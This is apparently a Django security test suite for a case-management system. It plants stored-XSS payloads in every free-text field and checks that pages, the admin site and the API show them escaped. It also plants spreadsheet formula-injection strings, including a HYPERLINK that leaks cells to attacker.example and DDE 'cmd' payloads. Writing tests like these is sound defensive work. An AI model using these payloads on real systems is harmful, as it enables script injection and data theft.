"""Stored cross-site scripting: text anyone can write is shown to everyone else, so every free-text field must leave
every page as text, never as markup.

The model registry lists every free-text field (CharField, TextField, JSONField; encrypted ones too, since they are
decrypted for display) of the apps that hold what users write. The fixture plants in each a value that breaks out of
text, attribute and script contexts at once, behind a tag (P001 …) that says which field it came from. Every page of
the site, the browsable API and the admin site included, is then fetched by a member of the test cast for each role:
a page may show planted text only escaped, and every field must be shown escaped on some page unless NEVER_SHOWN says
why no page shows it.

Downloads are the other place where stored text turns into code: a spreadsheet cell that starts with "=", "+", "-"
or "@" is a formula to Excel and LibreOffice, which can send the sheet's other cells to any address. Every CSV and
XLSX download must hand such text over as text.
"""

import csv
import datetime
import io
import tempfile
from decimal import Decimal
from html.parser import HTMLParser
from pathlib import Path
from xml.etree import ElementTree

from django.apps import apps
from django.conf import settings
from django.core.management import call_command
from django.db import models
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from django.utils import timezone
from django.utils.html import escape
from openpyxl import load_workbook

from accounts.models import User
from audit.models import AuditEvent
from audit.services import event_record
from cases import models as case_models
from cases.services import case_create
from ctims.testing import BaseTestCase
from hotline.models import Call
from lib.fields import EncryptedDateField
from lib.registers import REGISTERS, evidence_key
from monitoring import services as monitoring_services
from monitoring.models import (
    Need,
    ProgressReport,
    ReportAttachment,
    ReportEvidence,
    ReportResult,
    ReportSpending,
    ReportTransition,
)
from monitoring.tests.base import open_round
from organisations.models import Organisation, OrganisationAlias
from partners.models import Cooperation, Donor, DonorSupport, FollowUpAction, Meeting, Transaction
from plans.models import Direction, Measure, Participation, Plan
from prevention.models import AwarenessActivity, LabourInspection, MediaFinding, Research, Training
from prosecution.models import Asset, CooperationRequest, CriminalCase, Defendant
from reports.build import report_build
from reports.charts import bar_chart, stacked_chart
from reports.models import IssuedReport
from reports.tables import Row, Table

# Closes an attribute (either quote) and the element, then runs as a script, an image error and an SVG load handler.
PAYLOAD = "\"'><script>alert(1)</script><img src=x onerror=alert(1)><svg onload=alert(1)>"
SHORT_PAYLOAD = "\"'><svg onload=alert(1)>"  # for fields of fewer than 82 characters
TINY_PAYLOAD = '"><svg/onload=x>'  # for the numbers of plan directions and measures (20 characters)
# An address without spaces (URLField's validator allows that much) that still breaks out of an href.
URL_PAYLOAD = "https://example.org/{tag}\"'><script>alert(1)</script><img/src=x/onerror=alert(1)>"
# What unescaped planted text leaves in a page: none of these can appear in escaped text.
RAW_MARKS = ("<script>alert", "<img src=x", "<img/src=x", "<svg onload", "<svg/onload")

APPS = (
    "accounts",
    "audit",
    "plans",
    "organisations",
    "monitoring",
    "cases",
    "prevention",
    "hotline",
    "prosecution",
    "partners",
    "reports",
)

# Text fields that no one types freely: set by the code, or held by validation to codes that cannot carry markup.
NOT_FREE_TEXT = {
    "accounts.User.password": "a password hash",
    "accounts.User.username": "letters, digits and @.+-_ only (Django's username validator)",
    "accounts.User.email": "an e-mail address (validated)",
    "audit.AuditEvent.actor_username": "copied from the username",
    "audit.AuditEvent.action": "an action code set by the code",
    "audit.AuditEvent.object_type": "a model label set by the code",
    "audit.AuditEvent.object_id": "a primary key or uid",
    "audit.AuditEvent.details": "field names and counts set by the code",
    "audit.AuditEvent.previous_hash": "a hash",
    "audit.AuditEvent.hash": "a hash",
    "audit.AuditHead.hash": "a hash",
    "monitoring.ReportAttachment.token": "a random token",
    "monitoring.ReportAttachment.content_type": "sniffed from the file and checked against a list (check_upload)",
    "monitoring.ReportEvidence.key": "a register name and uid, checked against the entries that may be cited",
    "monitoring.Reminder.key": "set by send_reminders",
    "cases.Case.reference": "NRM-YYYY-NNNNN, set by case_create",
    "cases.Person.citizenship": "two letters (ISO 3166): no room for markup",
    "cases.AssistanceService.currency": "three letters (ISO 4217): no room for markup",
    "cases.IndicatorAssessment.version": "the indicator catalogue's version (cases.indicators)",
    "cases.IndicatorAssessment.profile": "a profile code of the catalogue",
    "cases.IndicatorAssessment.indicators": "indicator codes of the catalogue",
    "cases.IndicatorAssessment.conclusion": "written by cases.indicators from the catalogue",
    "cases.IndicatorAssessment.dimensions": "written by cases.indicators from the catalogue",
    "cases.IndicatorAssessment.explanation": "written by cases.indicators from the catalogue",
    "hotline.Call.indicators": "indicator codes (validate_indicators)",
    "prosecution.CriminalCase.articles": "article codes of the Criminal Code (validate_articles)",
    "prosecution.Defendant.citizenship": "two capital letters (citizenship_code)",
    "partners.Donor.iati_ref": "an IATI organisation identifier (validate_org_ref)",
    "partners.DonorSupport.support_types": "support type codes (validate_support_types)",
    "reports.IssuedReport.language": "the language code of the request",
    "reports.IssuedReport.content": "the report's snapshot, drawn from the planted fields (the issued page is read)",
    "reports.IssuedReport.checksums": "hashes of the report's files",
}

# Free-text fields that no page shows. They are planted anyway: should a page start showing one, the test asks for
# it to leave this list.
CASE_PAGE_AND_API = "recorded through the case page and returned by the case API, but no page shows it"
CASE_PAGE_ONLY = "recorded through the case page, but neither a page nor the API returns it"
NEVER_SHOWN = {
    "cases.AgeVerification.reason": CASE_PAGE_ONLY,
    "cases.AssistanceService.outcome_note": CASE_PAGE_ONLY,
    "cases.BestInterestAssessment.summary": CASE_PAGE_ONLY,
    "cases.Case.exploitation_region": CASE_PAGE_AND_API,
    "cases.Case.means_of_control": CASE_PAGE_AND_API,
    "cases.Case.recruitment_method": CASE_PAGE_AND_API,
    "cases.Case.vulnerabilities": CASE_PAGE_AND_API,
    "cases.Consent.note": CASE_PAGE_AND_API,
    "cases.FollowUp.note": CASE_PAGE_ONLY,
    "cases.Guardian.contact": CASE_PAGE_ONLY,
    "cases.HandOver.reason": CASE_PAGE_ONLY,
    "cases.Person.languages": CASE_PAGE_AND_API,
    "cases.Person.region": CASE_PAGE_AND_API,
    "cases.Placement.discharge_reason": CASE_PAGE_ONLY,
    "cases.ProtectionMeasure.note": CASE_PAGE_ONLY,
    "cases.Referral.consent_override_reason": "returned by the case API; the case page says only that consent was "
    "overridden",
    "cases.Referral.note": CASE_PAGE_AND_API,
    "cases.ReflectionPeriod.end_note": CASE_PAGE_AND_API,
    "cases.ReintegrationOutcome.note": CASE_PAGE_ONLY,
    "cases.RiskAssessment.deactivation_reason": CASE_PAGE_ONLY,
    "cases.RiskAssessment.summary": CASE_PAGE_ONLY,
}


def free_text_fields() -> list[models.Field]:
    """Every CharField, TextField and JSONField without choices of the models of APPS, in a stable order."""
    found = []
    for model in apps.get_models():
        if model._meta.app_label not in APPS:
            continue
        for field in model._meta.concrete_fields:
            if isinstance(field, EncryptedDateField) or field.choices:
                continue
            if isinstance(field, models.CharField | models.TextField | models.JSONField):
                found.append(field)
    return sorted(found, key=field_id)


def field_id(field: models.Field) -> str:
    return f"{field.model._meta.label}.{field.name}"


def planted_fields() -> list[models.Field]:
    return [field for field in free_text_fields() if field_id(field) not in NOT_FREE_TEXT]


PLANTED_INDEX = {field_id(field): index for index, field in enumerate(planted_fields(), start=1)}


def planted_value(field: models.Field) -> str:
    """What the fixture writes in `field`: its tag, then the longest payload that fits."""
    tag = f"P{PLANTED_INDEX[field_id(field)]:03d}"
    if isinstance(field, models.URLField):
        return URL_PAYLOAD.format(tag=tag)
    limit = field.max_length or len(tag) + len(PAYLOAD)
    return tag + next(payload for payload in (PAYLOAD, SHORT_PAYLOAD, TINY_PAYLOAD) if len(tag + payload) <= limit)


def planted(model, name: str) -> str:
    return planted_value(model._meta.get_field(name))


# Spreadsheet formulas, one per way a cell can start one (OWASP "CSV injection").
FORMULAS = (
    '=HYPERLINK("https://attacker.example/?leak="&A2,"Details")',
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "@SUM(cmd|' /C calc'!A0)",
    "\t=1+2",
    "\r=1+2",
)
FORMULA_STARTS = tuple(formula[0] for formula in FORMULAS)


def formula_value(field: models.Field) -> str:
    formula = FORMULAS[PLANTED_INDEX[field_id(field)] % len(FORMULAS)]
    return formula[: field.max_length] if field.max_length else formula


# The fixture ---------------------------------------------------------------------------------------------------------

D = datetime.date


def make(model, **given):
    """A row of `model`: `given` values, every planted field planted, and plain values (the first choice, 1 March
    2017, 1) for the other required fields."""
    values = {}
    for field in model._meta.concrete_fields:
        if field.name in given or field.primary_key or isinstance(field, models.ForeignKey):
            continue
        if field_id(field) in PLANTED_INDEX:
            values[field.name] = planted_value(field)
        elif field.has_default() or field.null or field.blank:
            continue
        elif field.choices:
            values[field.name] = field.choices[0][0]
        elif isinstance(field, models.DateTimeField):
            values[field.name] = timezone.make_aware(datetime.datetime(2017, 3, 1, 10))
        elif isinstance(field, models.DateField):
            values[field.name] = D(2017, 3, 1)
        elif isinstance(field, models.DecimalField | models.IntegerField):
            values[field.name] = 1
    return model.objects.create(**values, **given)


def plant_in(obj, *names: str) -> None:
    """Plants the planted fields `names` of a row that exists (all of its planted fields when none are named)."""
    fields = [f for f in obj._meta.concrete_fields if field_id(f) in PLANTED_INDEX and (not names or f.name in names)]
    for field in fields:
        setattr(obj, field.name, planted_value(field))
    obj.save(update_fields=[field.name for field in fields])


class PlantedTestCase(BaseTestCase):
    """The cast, and rows of every model of APPS with every free-text field planted, linked the way real use links
    them: a plan with a direction and two measures, a round with a reviewed report and a draft, a child's case with
    its care and protection records, an entry in every register, and the 2017 annual report issued."""

    @classmethod
    def setUpTestData(cls):
        super().setUpTestData()
        for user in User.objects.all():
            plant_in(user)
        plant_in(cls.ngo, "name")
        make(OrganisationAlias, organisation=cls.ngo)
        cls.plant_plan()
        cls.plant_monitoring()
        cls.plant_case()
        cls.plant_registers()
        ReportEvidence.objects.create(
            report=cls.report, key=evidence_key(REGISTERS["trainings"], cls.entries["trainings"])
        )
        cls.plant_annual_report()

    @classmethod
    def plant_plan(cls):
        cls.plan = make(Plan, start_year=2016, end_year=2018)
        cls.direction = make(Direction, plan=cls.plan, position=1)
        years = {"start_year": 2016, "end_year": 2018}
        cls.measure = make(Measure, plan=cls.plan, direction=cls.direction, position=1, **years)
        # Numbers are unique in a plan: the planted one is the first measure's.
        cls.other_measure = make(Measure, plan=cls.plan, direction=cls.direction, number="13.1.2", position=2, **years)
        for organisation, role in ((cls.ministry, "executor"), (cls.ngo, "executor"), (cls.education, "involved")):
            Participation.objects.create(measure=cls.measure, organisation=organisation, role=role)
        Participation.objects.create(measure=cls.other_measure, organisation=cls.ministry, role="executor")

    @classmethod
    def plant_monitoring(cls):
        services = monitoring_services
        cls.round = open_round(cls.plan, cls.alice, 2017)
        reports = ProgressReport.objects.filter(round=cls.round, organisation=cls.ministry)
        cls.report = reports.get(measure=cls.measure)
        services.report_update(report=cls.report, actor=cls.bob, progress="substantial", narrative="")
        plant_in(cls.report)
        make(ReportResult, report=cls.report, value=Decimal("12"))
        ReportSpending.objects.create(report=cls.report, source="state_budget", amount=Decimal("100"))
        make(ReportAttachment, report=cls.report, file="reports/planted", size=10, uploaded_by=cls.bob)
        comment = planted(ReportTransition, "comment")
        services.report_submit(report=cls.report, actor=cls.bob)
        services.report_return(report=cls.report, actor=cls.alice, comment=comment)
        services.report_submit(report=cls.report, actor=cls.bob)
        services.report_accept(report=cls.report, actor=cls.alice, comment=comment)
        cls.need = make(Need, report=cls.report, kind="funding", raised_by=cls.bob)
        # The Ministry's report on the other measure stays a draft, which its focal point edits.
        cls.draft = reports.get(measure=cls.other_measure)
        plant_in(cls.draft)

    @classmethod
    def plant_case(cls):
        """A child's case of Carol's NGO with one record of each kind; the Coordinator has opened it, with a reason."""
        models = case_models
        born = timezone.localdate().year - 15
        cls.case = case = case_create(actor=cls.carol, person={"sex": "female", "year_of_birth": born}, source="ngo")
        plant_in(case.person)
        plant_in(case)
        by_carol = {"case": case, "recorded_by": cls.carol}
        facility = make(models.Facility, organisation=cls.ngo, capacity=5)
        make(models.AssistanceService, **by_carol, kind="medical", provider=cls.ngo, outcome="completed")
        make(models.SchoolEnrolment, **by_carol)
        make(models.ReintegrationOutcome, **by_carol)
        make(models.ProtectionMeasure, **by_carol, body=cls.ministry)
        make(models.Guardian, **by_carol)
        placed = {"case": case, "facility": facility, "placed_by": cls.carol}
        make(models.Placement, **placed, placed_on=D(2017, 3, 1), discharged_on=D(2017, 4, 1), discharged_by=cls.carol)
        make(models.Placement, **placed, placed_on=D(2017, 5, 1))
        make(models.FollowUp, case=case, by=cls.carol, organisation=cls.ngo)
        make(models.StatusChange, case=case, from_status="potential", to_status="presumed", actor=cls.carol,
             organisation=cls.ngo)  # fmt: skip
        period = make(models.ReflectionPeriod, case=case, ends_on=D(2017, 3, 30))
        make(models.PeriodExtension, period=period, previous_end=D(2017, 3, 30), new_end=D(2017, 4, 30),
             actor=cls.carol)  # fmt: skip
        make(models.Consent, case=case, purpose="referral", given=True, taken_by=cls.carol)
        for state, to in (("pending", cls.other_ngo), ("declined", cls.ministry)):
            make(models.Referral, case=case, from_organisation=cls.ngo, to_organisation=to, state=state,
                 sent_by=cls.carol)  # fmt: skip
        assessed = {"case": case, "assessed_by": cls.carol, "organisation": cls.ngo}
        make(models.RiskAssessment, **assessed, level="high", active=False, deactivated_by=cls.carol)
        make(models.BestInterestAssessment, **assessed, return_safe=False)
        make(models.AgeVerification, case=case, age=14, verified_by=cls.carol)
        make(models.HandOver, case=case, from_organisation=cls.other_ngo, to_organisation=cls.ngo, actor=cls.carol)
        event_record(actor=cls.alice, action="case.open", obj=case, reason=planted(AuditEvent, "reason"))

    @classmethod
    def plant_registers(cls):
        """One entry in every register, recorded by an organisation whose users read it, linked to the measure."""
        by_ministry = {"organisation": cls.ministry, "created_by": cls.bob}
        by_coordinator = {"organisation": cls.coordinator_org, "created_by": cls.alice}
        cls.entries = {
            "trainings": make(Training, **by_ministry, women=3, men=4),
            "awareness": make(AwarenessActivity, **by_ministry),
            "research": make(Research, **by_ministry),
            "inspections": make(LabourInspection, **by_ministry),
            "media-findings": make(MediaFinding, **by_ministry),
            "calls": make(Call, organisation=cls.ministry, created_by=cls.hana, anonymous=False, action="none"),
            "criminal-cases": make(
                CriminalCase, organisation=cls.prosecutor_office, created_by=cls.paul, articles=["144-1"]
            ),
            "donors": make(Donor, **by_coordinator, iati_ref="XM-DAC-47066"),
            "meetings": make(Meeting, **by_coordinator),
            "cooperation": make(Cooperation, **by_ministry),
        }
        support = cls.entries["donor-support"] = make(
            DonorSupport,
            **by_ministry,
            donor=cls.entries["donors"],
            implementing_organisation=cls.ngo,
            support_types=["methodic"],
            start_on=D(2016, 6, 1),
            amount_committed=Decimal("1000"),
        )
        Transaction.objects.create(support=support, kind="disbursement", date=D(2017, 2, 1), value=Decimal("500"))
        criminal_case = cls.entries["criminal-cases"]
        criminal_case.victims.add(cls.case)
        make(Defendant, criminal_case=criminal_case, sex="male", age_band="adult", citizenship="AZ")
        Asset.objects.create(criminal_case=criminal_case, kind="money", seized_value=Decimal("10"))
        make(CooperationRequest, criminal_case=criminal_case)
        meeting = cls.entries["meetings"]
        make(FollowUpAction, meeting=meeting, responsible=cls.ngo, measure=cls.measure, status="open")
        meeting.participants.add(cls.ngo)
        for entry in cls.entries.values():
            entry.measures.add(cls.measure)

    @classmethod
    def plant_annual_report(cls):
        """The 2017 report frozen as report_issue freezes it, but without its files: the issued page is drawn from
        the snapshot, and drawing the PDF takes seconds."""
        report = report_build(year=2017, edition="restricted", language="en")
        report.version = 1
        cls.issued = make(
            IssuedReport,
            year=2017,
            edition="restricted",
            version=1,
            language="en",
            content=report.to_dict(),
            pdf=b"",
            docx=b"",
            xlsx=b"",
            issued_by=cls.alice,
        )


# Reading pages -------------------------------------------------------------------------------------------------------


class RunnableMarkup(HTMLParser):
    """Collects what in a page a browser would run: event-handler attributes, inline scripts, javascript: links."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag, attrs):
        values = dict(attrs)
        for name, value in attrs:
            address = name in ("href", "src", "action", "formaction") and (value or "").strip().lower()
            if name.startswith("on") or (address and address.startswith("javascript:")):
                self.found.append(f"<{tag} {name}={value!r}>")
        if tag == "script" and not values.get("src") and values.get("type") != "application/json":
            self.found.append("<script> with code in the page")  # a JSON data block is never run


def runnable_markup(html: str) -> list[str]:
    """What in `html` a browser would run, and the marks that only unescaped planted text leaves."""
    parser = RunnableMarkup()
    parser.feed(html)
    parser.close()
    return parser.found + [mark for mark in RAW_MARKS if mark in html]


# Who reads the pages: one member of the cast for each role that sees stored text, and Dan, the case worker of the
# NGO a referral waits with.
READERS = ("alice", "bob", "carol", "dan", "olga", "sam", "hana", "paul")

NOT_CRAWLED = {
    "accounts-login": "the sign-in page shows no stored text",
    "accounts-logout": "signs the reader out",
    "set_language": "a form's target",
    "cases-care": "the forms of the case page post here",
    "monitoring-attachment": "the uploaded file itself, sent as an attachment",
    "plans-export-xlsx": "a download: DownloadTests",
    "plans-export-csv": "a download: DownloadTests",
    "monitoring-status-export": "a download: DownloadTests",
    "monitoring-compliance-export": "a download: DownloadTests",
    "reports-draft": "a download: DownloadTests",
    "reports-issued-file": "the files frozen when the report was issued",
    "donor-support-iati": "XML: DownloadTests",
    "api-schema": "the OpenAPI schema holds no stored text",
    "api-docs": "Swagger UI holds no stored text",
}


def url_patterns(resolver=None) -> list[URLPattern]:
    """The project's named URL patterns, without the admin site and the API's format-suffix twins."""
    found = []
    for pattern in (resolver or get_resolver()).url_patterns:
        if isinstance(pattern, URLResolver):
            if pattern.namespace != "admin":
                found.extend(url_patterns(pattern))
        elif pattern.name and "format" not in pattern.pattern.regex.groupindex:
            found.append(pattern)
    return found


class PageTests(PlantedTestCase):
    maxDiff = None

    def arguments(self, name: str, keys) -> dict:
        """The URL arguments that address the planted object the page or endpoint `name` shows."""
        register = next((r for r in REGISTERS.values() if name.removeprefix("api-").startswith(f"{r.name}-")), None)
        if name.startswith("reports-issued"):
            uid = self.issued.uid
        elif name.startswith(("cases-referral", "referral-")):
            uid = self.case.referrals.get(state="pending").uid
        elif register is not None:
            uid = self.entries[register.name].uid
        else:
            uid = self.case.uid
        by_prefix = {
            "plan": self.plan,
            "direction": self.direction,
            "measure": self.measure,
            "organisation": self.ngo,
            "round": self.round,
            "report": self.report,
        }
        values = {
            "plan_id": self.plan.pk,
            "measure_id": self.measure.pk,
            "organisation_id": self.ngo.pk,
            "round_id": self.round.pk,
            "report_id": (self.draft if name == "monitoring-report-edit" else self.report).pk,
            "need_id": self.need.pk,
            "period_id": self.case.reflection_periods.get().pk,
            "token": self.report.attachments.get().token,
            "uid": uid,
            "pk": getattr(by_prefix.get(name.split("-")[0]), "pk", None),
        }
        return {key: values[key] for key in keys}

    def paths(self) -> dict[str, str]:
        """{URL name: path} of every page and API endpoint to read; the API as its browsable HTML pages."""
        paths = {}
        for pattern in url_patterns():
            if pattern.name in NOT_CRAWLED or pattern.name in paths:
                continue
            path = reverse(pattern.name, kwargs=self.arguments(pattern.name, pattern.pattern.regex.groupindex))
            if pattern.name == "reports-preview":
                path += "?year=2017&edition=restricted"
            elif path.startswith("/api/"):
                path += "?format=api"
            paths[pattern.name] = path
        return paths

    def read_as(self, user) -> None:
        self.client.logout()
        self.client.raise_request_exception = False  # a failing page is counted, and the reading goes on
        self.login(user)
        # The Coordinator, or a case worker of another organisation, states why before a case opens.
        self.client.post(self.case.get_absolute_url(), {"reason": "Checking the statistics."})

    def test_every_free_text_field_is_planted_or_explained(self):
        ids = {field_id(field) for field in free_text_fields()}
        self.assertEqual(set(NOT_FREE_TEXT) - ids, set(), "NOT_FREE_TEXT names fields that do not exist")
        self.assertEqual(set(NEVER_SHOWN) - set(PLANTED_INDEX), set(), "NEVER_SHOWN names fields that are not planted")
        missing = [
            field_id(field)
            for field in planted_fields()
            if not any(getattr(row, field.name) == planted_value(field) for row in field.model.objects.all())
        ]
        self.assertEqual(missing, [], "free-text fields the fixture does not plant")

    def test_every_page_shows_planted_text_escaped_and_every_field_somewhere(self):
        paths = self.paths()
        escaped = {field_id(field): escape(planted_value(field)) for field in planted_fields()}
        seen, answers, failing, running = set(), {}, [], {}
        for username in READERS:
            self.read_as(getattr(self, username))
            for name, path in paths.items():
                response = self.client.get(path)
                answers.setdefault(name, set()).add(response.status_code)
                if response.status_code >= 500:
                    failing.append(f"{path} as {username}")
                if response.status_code != 200:
                    continue
                html = response.content.decode()
                if found := runnable_markup(html):
                    running[f"{path} as {username}"] = found
                seen |= {field for field, value in escaped.items() if value in html}
        # A form's target answers 405 to a reader who may post to it; every other page opens for some reader.
        unread = sorted(name for name, codes in answers.items() if not codes & {200, 405})
        problems = {
            "pages that fail with planted text": failing,
            "pages where planted text would run": running,
            "pages no reader opened: give them arguments that work": unread,
            "fields no page shows": sorted(set(PLANTED_INDEX) - seen - set(NEVER_SHOWN)),
            "fields in NEVER_SHOWN that a page shows": sorted(seen & set(NEVER_SHOWN)),
        }
        self.assertEqual({problem: found for problem, found in problems.items() if found}, {})

    def test_the_admin_site_shows_planted_text_escaped(self):
        self.login(self.sam)
        pages = [
            reverse("admin:organisations_organisation_changelist"),
            reverse("admin:organisations_organisation_change", args=[self.ngo.pk]),
            reverse("admin:plans_plan_changelist"),
            reverse("admin:plans_plan_change", args=[self.plan.pk]),
            reverse("admin:plans_measure_change", args=[self.measure.pk]),
            reverse("admin:accounts_user_changelist"),
            reverse("admin:accounts_user_change", args=[self.carol.pk]),
        ]
        for page in pages:
            with self.subTest(page=page):
                response = self.client.get(page)
                self.assertEqual(response.status_code, 200)
                self.assertEqual(runnable_markup(response.content.decode()), [])
        self.assertContains(response, escape(planted(User, "first_name")))

    def test_the_iati_file_keeps_planted_text_as_text(self):
        self.login(self.alice)
        response = self.client.get(reverse("donor-support-iati"))
        self.assertEqual(response.status_code, 200)
        root = ElementTree.fromstring(response.content)
        self.assertEqual([e.tag for e in root.iter() if e.tag in ("script", "img", "svg")], [])
        texts = {element.text for element in root.iter()}
        self.assertIn(planted(DonorSupport, "title"), texts)
        self.assertIn(planted(Donor, "name"), texts)

    def test_the_audit_trail_in_the_admin_site_shows_a_planted_reason_escaped(self):
        self.login(self.sam)
        event = AuditEvent.objects.get(action="case.open")
        for page in (
            reverse("admin:audit_auditevent_changelist"),
            reverse("admin:audit_auditevent_change", args=[event.pk]),
        ):
            with self.subTest(page=page):
                response = self.client.get(page)
                self.assertEqual(response.status_code, 200)
                self.assertEqual(runnable_markup(response.content.decode()), [])
                self.assertContains(response, escape(planted(AuditEvent, "reason"))[:60])


# Markup the code writes itself ---------------------------------------------------------------------------------------

# Every place that turns escaping off, and why its text cannot hold markup someone typed. A new one fails the test
# below until it is reviewed and listed here.
UNESCAPED_REVIEWED = {
    ("audit/admin.py", "format_html"): "the event's details as JSON inside <pre>: format_html escapes the JSON",
    ("prosecution/registers.py", "format_html"): "case links: format_html escapes the URL and the reference code",
    ("templates/monitoring/dashboard.html", "|safe"): "monitoring.charts SVG: round labels (years) and status names, "
    "escaped all the same",
    ("templates/reports/document.html", "|safe"): "reports.charts SVG: titles and labels pass through escape()",
    ("templates/accounts/two_factor_setup.html", "|safe"): "the QR code's SVG: paths only, drawn by qrcode",
    **{
        (f"templates/{app}/email/{name}.txt", "autoescape off"): "a plain-text e-mail (EmailMessage, text/plain)"
        for app, names in (
            ("cases", ("review_overdue", "referral_overdue", "period_ending", "referral_waiting")),
            ("monitoring", ("due_soon", "returned", "overdue", "digest")),
        )
        for name in names
    },
}
UNESCAPING = ("mark_safe", "SafeString", "|safe", "format_html", "autoescape off", "escapejs", "json_script", "urlize")
SOURCE_DIRS = (*APPS, "ctims", "lib", "templates")


def unescaping_uses() -> set[tuple[str, str]]:
    root = Path(settings.BASE_DIR)
    found = set()
    for directory in SOURCE_DIRS:
        for path in (root / directory).rglob("*"):
            if path.suffix not in (".py", ".html", ".txt") or "tests" in path.parts or "migrations" in path.parts:
                continue
            text = path.read_text(encoding="utf-8")
            found |= {(str(path.relative_to(root)), word) for word in UNESCAPING if word in text}
    return found


class UnescapedOutputTests(BaseTestCase):
    def test_every_place_that_turns_escaping_off_is_reviewed(self):
        self.assertEqual(unescaping_uses(), set(UNESCAPED_REVIEWED))

    def test_the_report_charts_escape_the_labels_they_draw(self):
        rows = [Row(PAYLOAD, PAYLOAD, [2, 1, 3])]
        table = Table(PAYLOAD, PAYLOAD, [PAYLOAD, PAYLOAD, PAYLOAD], rows, total_column=2)
        for kind, svg in {"bars": bar_chart(table, 0), "stacked": stacked_chart(table)}.items():
            with self.subTest(chart=kind):
                self.assertEqual(runnable_markup(svg), [])
                self.assertIn(escape(PAYLOAD), svg)


# Downloads -----------------------------------------------------------------------------------------------------------

MINISTRY_FORMULA = '=HYPERLINK("https://attacker.example/?from=ministry","Ministry of Internal Affairs")'


def spreadsheet_cells(content: bytes, fmt: str) -> list[tuple[object, bool]]:
    """(value, whether the program opening the file runs it as a formula) for every cell of a CSV or XLSX file."""
    if fmt == "csv":
        rows = csv.reader(io.StringIO(content.decode("utf-8-sig")))
        return [(value, value.startswith(FORMULA_STARTS)) for row in rows for value in row]
    workbook = load_workbook(io.BytesIO(content))
    return [
        (cell.value, cell.data_type == "f" or (isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS)))
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
    ]


class DownloadTests(PlantedTestCase):
    """The planted text replaced by formulas, each field with one of the six ways a cell starts one."""

    @classmethod
    def setUpTestData(cls):
        super().setUpTestData()
        for field in planted_fields():
            if field.model in (AuditEvent, IssuedReport):
                continue  # neither changes once written, and neither is in a download
            for row in field.model.objects.all():
                if getattr(row, field.name) == planted_value(field):
                    setattr(row, field.name, formula_value(field))
                    row.save(update_fields=[field.name])
        Organisation.objects.filter(pk=cls.ministry.pk).update(name=MINISTRY_FORMULA)
        cls.inert = {f"'{formula_value(field)}" for field in planted_fields()} | {f"'{MINISTRY_FORMULA}"}

    def assertTextStaysText(self, response, fmt: str) -> None:
        """No cell of the download runs as a formula, and some cell holds a planted formula as text."""
        self.assertEqual(response.status_code, 200)
        cells = spreadsheet_cells(response.content, fmt)
        self.assertEqual([value for value, runs in cells if runs], [], "cells that run as formulas")
        self.assertTrue(self.inert & {value for value, _runs in cells}, "no planted text in the download")

    def test_register_downloads_keep_formulas_as_text(self):
        readers = {"calls": self.hana, "criminal-cases": self.paul}
        for register in REGISTERS.values():
            self.login(readers.get(register.name, self.alice))
            for fmt in ("xlsx", "csv"):
                with self.subTest(register=register.name, fmt=fmt):
                    response = self.client.get(reverse(f"{register.name}-list"), {"format": fmt})
                    self.assertTextStaysText(response, fmt)

    def test_round_downloads_keep_formulas_as_text(self):
        self.login(self.alice)
        for name in ("monitoring-status-export", "monitoring-compliance-export"):
            for fmt in ("xlsx", "csv"):
                with self.subTest(download=name, fmt=fmt):
                    response = self.client.get(reverse(name, args=[self.round.pk, fmt]))
                    self.assertTextStaysText(response, fmt)

    def test_plan_download_keeps_formulas_as_text(self):
        self.login(self.bob)
        for fmt in ("xlsx", "csv"):
            with self.subTest(fmt=fmt):
                self.assertTextStaysText(self.client.get(reverse(f"plans-export-{fmt}", args=[self.plan.pk])), fmt)

    def test_annual_report_workbook_keeps_formulas_as_text(self):
        self.login(self.alice)
        response = self.client.get(reverse("reports-draft", args=["xlsx"]), {"year": 2017, "edition": "restricted"})
        self.assertTextStaysText(response, "xlsx")

    def test_htcds_export_holds_no_formula(self):
        with tempfile.TemporaryDirectory() as folder:
            output = Path(folder) / "htcds.csv"
            call_command("export_htcds", output=str(output), stdout=io.StringIO())
            content = output.read_bytes()
        cells = spreadsheet_cells(content, "csv")
        self.assertEqual([value for value, runs in cells if runs], [])
        self.assertEqual(len(content.decode().splitlines()), 2)  # the headings and the planted case
